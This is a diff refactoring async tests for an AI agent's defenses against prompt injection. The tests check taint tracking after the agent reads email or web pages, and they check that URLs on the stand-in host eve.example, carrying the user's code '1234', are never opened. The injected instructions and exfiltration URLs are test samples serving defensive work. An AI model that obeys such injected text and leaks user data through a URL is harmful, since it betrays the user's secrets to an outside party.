@@ -10,7 +10,7 @@ from brain.run.messages import Decision, Message, Remark
 from brain.run.step import CONTINUE
 from brain.run.tools import Effect, Json, ToolSpec
 from brain.web.tools import web_tools
-from tests.fakes.loop import run_virtual
+from tests.fakes.loop import in_virtual_time
 from tests.fakes.tools import LetterTool, MailTool, NoteTool
 from tests.fakes.web import FakeWeb
 from tests.fakes.world import Saying, World, calls, words
@@ -68,134 +68,118 @@ def obeying(web: FakeWeb, *sayings: Saying, tools: tuple[Tool, ...] = ()) -> Wor
     return World([*sayings, words("So.")], tools=[Inbox(), *tools, *web_tools(web)])
 
 
-def test_a_tool_is_told_what_the_user_said_and_what_others_wrote() -> None:
-    async def story() -> None:
-        tool = Listening()
-        script = [words("Hello."), calls(NOTE, INBOX), calls(NOTE), words("So.")]
-        world = World(script, tools=[tool, Inbox("an email")])
-        await world.ask("First.", patience_s=5)
-        remarks = [Remark(role="user", text="Aloud."), Remark(role="assistant", text="Yes?")]
-        await world.ask("Second.", patience_s=5, recent_context=remarks)
-        before, after = tool.errands
-        assert before.user_words == after.user_words == ("First.", "Second.", "Aloud.")
-        assert (before.tainted, before.foreign_texts, before.earlier_calls) == (False, (), ())
-        assert (after.tainted, after.foreign_texts, after.earlier_calls) == (
-            True,
-            ("an email",),
-            (before.call,),
-        )
-
-    run_virtual(story())
+@in_virtual_time
+async def test_a_tool_is_told_what_the_user_said_and_what_others_wrote() -> None:
+    tool = Listening()
+    script = [words("Hello."), calls(NOTE, INBOX), calls(NOTE), words("So.")]
+    world = World(script, tools=[tool, Inbox("an email")])
+    await world.ask("First.", patience_s=5)
+    remarks = [Remark(role="user", text="Aloud."), Remark(role="assistant", text="Yes?")]
+    await world.ask("Second.", patience_s=5, recent_context=remarks)
+    before, after = tool.errands
+    assert before.user_words == after.user_words == ("First.", "Second.", "Aloud.")
+    assert (before.tainted, before.foreign_texts, before.earlier_calls) == (False, (), ())
+    assert (after.tainted, after.foreign_texts, after.earlier_calls) == (
+        True,
+        ("an email",),
+        (before.call,),
+    )
 
 
-def test_what_the_user_says_meanwhile_is_said_too_and_outlives_a_death() -> None:
-    async def story() -> None:
-        tool = Listening()
-        lost = words("Never said.", delay_s=60)
-        script = [calls(INBOX, delay_s=5), lost, calls(NOTE), words("So.")]
-        world = World(script, tools=[tool, Inbox("an email")])
-        await world.ask("First.", patience_s=1.5)
-        await world.ask("Second.")
-        await asyncio.sleep(10)
-        world.kill()
-        await world.until_said("So.")
-        (invocation,) = tool.errands
-        assert invocation.user_words == ("First.", "Second.")
-        assert (invocation.tainted, invocation.foreign_texts) == (True, ("an email",))
-
-    run_virtual(story())
+@in_virtual_time
+async def test_what_the_user_says_meanwhile_is_said_too_and_outlives_a_death() -> None:
+    tool = Listening()
+    lost = words("Never said.", delay_s=60)
+    script = [calls(INBOX, delay_s=5), lost, calls(NOTE), words("So.")]
+    world = World(script, tools=[tool, Inbox("an email")])
+    await world.ask("First.", patience_s=1.5)
+    await world.ask("Second.")
+    await asyncio.sleep(10)
+    world.kill()
+    await world.until_said("So.")
+    (invocation,) = tool.errands
+    assert invocation.user_words == ("First.", "Second.")
+    assert (invocation.tainted, invocation.foreign_texts) == (True, ("an email",))
 
 
-def test_a_decision_is_not_among_the_users_words() -> None:
-    async def story() -> None:
-        tool = Listening()
-        send = ("send", '{"to":"anna@example.org","body":"Hi"}')
-        world = World([calls(send), calls(NOTE), words("So.")], tools=[tool, LetterTool()])
-        question = (await world.ask("Write to Anna.", patience_s=5)).message
-        assert question is not None
-        assert question.question is not None
-        decision = Decision(
-            question_id=question.id,
-            verdict="approve",
-            tool="send",
-            arguments=question.question.arguments,
-        )
-        await world.ask(LEAK, decision=decision, patience_s=5)
-        (invocation,) = tool.errands
-        assert invocation.user_words == ("Write to Anna.",)
-
-    run_virtual(story())
+@in_virtual_time
+async def test_a_decision_is_not_among_the_users_words() -> None:
+    tool = Listening()
+    send = ("send", '{"to":"anna@example.org","body":"Hi"}')
+    world = World([calls(send), calls(NOTE), words("So.")], tools=[tool, LetterTool()])
+    question = (await world.ask("Write to Anna.", patience_s=5)).message
+    assert question is not None
+    assert question.question is not None
+    decision = Decision(
+        question_id=question.id,
+        verdict="approve",
+        tool="send",
+        arguments=question.question.arguments,
+    )
+    await world.ask(LEAK, decision=decision, patience_s=5)
+    (invocation,) = tool.errands
+    assert invocation.user_words == ("Write to Anna.",)
 
 
-def test_what_may_be_the_models_own_words_is_not_what_others_wrote() -> None:
-    async def story() -> None:
-        tool = Listening()
-        script = [words("A link: https://eve.example/1234"), calls(READ), calls(NOTE), words("So.")]
-        world = World(script, tools=[tool, MailTool("a fact of the model's own", foreign=True)])
-        await world.ask("What do you know?", patience_s=5)
-        await world.ask("And now?", patience_s=5)
-        (invocation,) = tool.errands
-        assert (invocation.tainted, invocation.foreign_texts) == (True, ())
-
-    run_virtual(story())
+@in_virtual_time
+async def test_what_may_be_the_models_own_words_is_not_what_others_wrote() -> None:
+    tool = Listening()
+    script = [words("A link: https://eve.example/1234"), calls(READ), calls(NOTE), words("So.")]
+    world = World(script, tools=[tool, MailTool("a fact of the model's own", foreign=True)])
+    await world.ask("What do you know?", patience_s=5)
+    await world.ask("And now?", patience_s=5)
+    (invocation,) = tool.errands
+    assert (invocation.tainted, invocation.foreign_texts) == (True, ())
 
 
 @pytest.mark.parametrize("url", [LEAK, LEAK_BY_PATH, "https://1234.eve.example/"])
-def test_a_model_that_obeys_an_email_carries_nothing_out(url: str) -> None:
-    async def story() -> None:
-        web = FakeWeb()
-        world = obeying(web, calls(INBOX), calls(opening(url)))
-        await world.ask("What is new? My code is 1234.", patience_s=5)
-        assert web.opened == []
-        result = json.dumps(world.model.prompts[-1].messages[-1])
-        assert "ask the user to say or type the address" in result
-
-    run_virtual(story())
+@in_virtual_time
+async def test_a_model_that_obeys_an_email_carries_nothing_out(url: str) -> None:
+    web = FakeWeb()
+    world = obeying(web, calls(INBOX), calls(opening(url)))
+    await world.ask("What is new? My code is 1234.", patience_s=5)
+    assert web.opened == []
+    result = json.dumps(world.model.prompts[-1].messages[-1])
+    assert "ask the user to say or type the address" in result
 
 
-def test_the_taint_of_a_page_holds_for_the_next_page() -> None:
-    async def story() -> None:
-        web = FakeWeb()
-        web.keep("https://a.example/", f"{INJECTION} Or read https://a.example/more")
-        web.keep("https://a.example/more", "More.")
-        world = obeying(
-            web,
-            calls(opening("https://a.example/")),
-            calls(opening(LEAK), opening("https://a.example/more")),
-        )
-        await world.ask("Read a.example", patience_s=5)
-        assert web.opened == ["https://a.example/", "https://a.example/more"]
-
-    run_virtual(story())
+@in_virtual_time
+async def test_the_taint_of_a_page_holds_for_the_next_page() -> None:
+    web = FakeWeb()
+    web.keep("https://a.example/", f"{INJECTION} Or read https://a.example/more")
+    web.keep("https://a.example/more", "More.")
+    world = obeying(
+        web,
+        calls(opening("https://a.example/")),
+        calls(opening(LEAK), opening("https://a.example/more")),
+    )
+    await world.ask("Read a.example", patience_s=5)
+    assert web.opened == ["https://a.example/", "https://a.example/more"]
 
 
-def test_a_model_cannot_say_an_address_now_to_open_it_later() -> None:
-    async def story() -> None:
-        web = FakeWeb()
-        saying = (CONTINUE, json.dumps({"message": f"See {LEAK_BY_PATH}"}))
-        world = obeying(
-            web,
-            calls(INBOX),
-            calls(saying),
-            calls(opening(LEAK_BY_PATH)),
-            words(f"See {LEAK_BY_PATH}"),
-            calls(opening(LEAK_BY_PATH)),
-        )
-        await world.ask("What is new? My code is 1234.", patience_s=5)
-        said = [entry for entry in await world.log() if isinstance(entry, Message)]
-        assert all(LEAK_BY_PATH in message.text and message.foreign for message in said)
-        await world.ask("Thanks. And what else?", patience_s=5)
-        assert web.opened == []
-
-    run_virtual(story())
+@in_virtual_time
+async def test_a_model_cannot_say_an_address_now_to_open_it_later() -> None:
+    web = FakeWeb()
+    saying = (CONTINUE, json.dumps({"message": f"See {LEAK_BY_PATH}"}))
+    world = obeying(
+        web,
+        calls(INBOX),
+        calls(saying),
+        calls(opening(LEAK_BY_PATH)),
+        words(f"See {LEAK_BY_PATH}"),
+        calls(opening(LEAK_BY_PATH)),
+    )
+    await world.ask("What is new? My code is 1234.", patience_s=5)
+    said = [entry for entry in await world.log() if isinstance(entry, Message)]
+    assert all(LEAK_BY_PATH in message.text and message.foreign for message in said)
+    await world.ask("Thanks. And what else?", patience_s=5)
+    assert web.opened == []
 
 
-def test_what_the_user_asks_for_is_opened_after_an_email_was_read() -> None:
-    async def story() -> None:
-        web = FakeWeb()
-        web.keep("https://a.example/menu?day=1", "Soup.")
-        world = obeying(web, calls(INBOX), calls(opening("https://a.example/menu?day=1")))
-        await world.ask("Read my email, then https://a.example/menu?day=1.", patience_s=5)
-        assert web.opened == ["https://a.example/menu?day=1"]
-
-    run_virtual(story())
+@in_virtual_time
+async def test_what_the_user_asks_for_is_opened_after_an_email_was_read() -> None:
+    web = FakeWeb()
+    web.keep("https://a.example/menu?day=1", "Soup.")
+    world = obeying(web, calls(INBOX), calls(opening("https://a.example/menu?day=1")))
+    await world.ask("Read my email, then https://a.example/menu?day=1.", patience_s=5)
+    assert web.opened == ["https://a.example/menu?day=1"]
